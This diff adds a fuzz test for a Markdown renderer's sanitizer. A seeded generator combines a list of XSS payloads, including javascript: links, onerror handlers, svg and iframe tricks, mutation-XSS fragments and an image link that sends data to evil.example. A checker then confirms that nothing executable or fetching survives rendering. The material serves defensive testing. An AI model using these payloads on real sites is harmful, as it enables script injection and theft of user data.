@@ -63,3 +63,69 @@ describe('renderMarkdown', () => {
     expect(d.querySelectorAll('td')).toHaveLength(2)
   })
 })
+
+// A small seeded generator (mulberry32), so a failure names its seed.
+function rng(seed: number): () => number {
+  return () => {
+    seed = (seed + 0x6d2b79f5) | 0
+    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
+    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
+  }
+}
+
+// Pieces an injected answer may combine: Markdown, HTML, half-closed tags,
+// entities and schemes in their disguises.
+const pieces = [
+  '![x](http://evil.example/i?q=S)', '[a](javascript:alert(1))', '[b](JaVaScRiPt:alert(1))', '[c](java\tscript:alert(1))',
+  '[d](&#106;avascript:alert(1))', '[e](data:text/html,<script>alert(1)</script>)', '[f](vbscript:x)', '[g](file:///etc/passwd)',
+  '<img src=x onerror=alert(1)>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<svg><script>alert(1)</script></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<a href="javascript:alert(1)">h</a>', '<a href=" https://ok.example">ok</a>',
+  '<details open ontoggle=alert(1)>', '<div style="background:url(http://evil.example)">', '<style>@import "http://evil.example"</style>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>',
+  '<iframe srcdoc="<script>alert(1)</script>">', '<object data=http://evil.example>', '<embed src=http://evil.example>',
+  '<form><button formaction=javascript:alert(1)>go</button></form>', '<base href="http://evil.example/">', '<meta http-equiv=refresh content="0;url=http://evil.example">',
+  '<video><source onerror=alert(1)></video>', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<a href="#" onclick="alert(1)">',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>', '<!--<img src=x onerror=alert(1)>-->', '<table background=http://evil.example><tr><td>t',
+  '`<img src=x onerror=alert(1)>`', '```html\n<img src=x onerror=alert(1)>\n```', '> <img src=x onerror=alert(1)>', '* <a href=javascript:x>l</a>',
+  '<', '>', '"', "'", '`', '\n', ' ', '&lt;', '&#60;', '&#x3c;', '</', '/>', '=', '(', ')', '[', ']', '<p', '<a ', 'href=', 'src=', 'onerror=',
+  'plain words', '**bold**', '# head', '| a | b |\n|---|---|\n| 1 | 2 |', 'https://autolink.example/x', '<https://ok.example/y>',
+]
+
+/** Everything in d that could run code or fetch by itself; [] when safe. */
+function dangers(d: HTMLElement): string[] {
+  const out: string[] = []
+  const forbidden = ['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'BUTTON', 'BASE', 'META', 'LINK', 'SVG', 'MATH', 'VIDEO', 'AUDIO', 'SOURCE', 'TEMPLATE']
+  for (const el of Array.from(d.querySelectorAll('*'))) {
+    if (forbidden.includes(el.tagName.toUpperCase())) out.push(`<${el.tagName}>`)
+    for (const attr of Array.from(el.attributes)) {
+      const name = attr.name.toLowerCase()
+      if (name.startsWith('on') || ['style', 'srcset', 'action', 'formaction', 'background', 'poster', 'ping', 'srcdoc', 'data', 'xlink:href'].includes(name)) out.push(`${el.tagName} ${name}`)
+      if (name === 'href' && !/^(https?|mailto):/i.test(attr.value)) out.push(`${el.tagName} href=${attr.value}`)
+      // src loads only on these; on a link or a paragraph it is inert.
+      const loads = ['IMG', 'SCRIPT', 'IFRAME', 'FRAME', 'EMBED', 'SOURCE', 'VIDEO', 'AUDIO', 'INPUT', 'TRACK', 'IMAGE'].includes(el.tagName.toUpperCase())
+      if (name === 'src' && loads && !(el.tagName === 'IMG' && /^data:image\/(png|gif|jpe?g|webp);/i.test(attr.value))) out.push(`${el.tagName} src=${attr.value}`)
+    }
+  }
+  return out
+}
+
+describe('renderMarkdown on generated injections', () => {
+  it('never renders anything that runs or fetches, and reads back the same', () => {
+    for (let seed = 1; seed <= 400; seed++) {
+      const r = rng(seed)
+      const n = 1 + Math.floor(r() * 8)
+      let text = ''
+      for (let i = 0; i < n; i++) text += pieces[Math.floor(r() * pieces.length)]
+      const html = renderMarkdown(text)
+      const d = document.createElement('div')
+      d.innerHTML = html
+      expect(dangers(d), `seed ${seed}: ${JSON.stringify(text)}\n→ ${html}`).toEqual([])
+      // The window inserts the HTML as text: parsing it again must not
+      // make something else of it (mutation XSS).
+      const again = document.createElement('div')
+      again.innerHTML = d.innerHTML
+      expect(again.innerHTML, `seed ${seed}: reparsed`).toBe(d.innerHTML)
+    }
+  }, 300_000) // a deadline for a loaded machine, not a timing check
+})
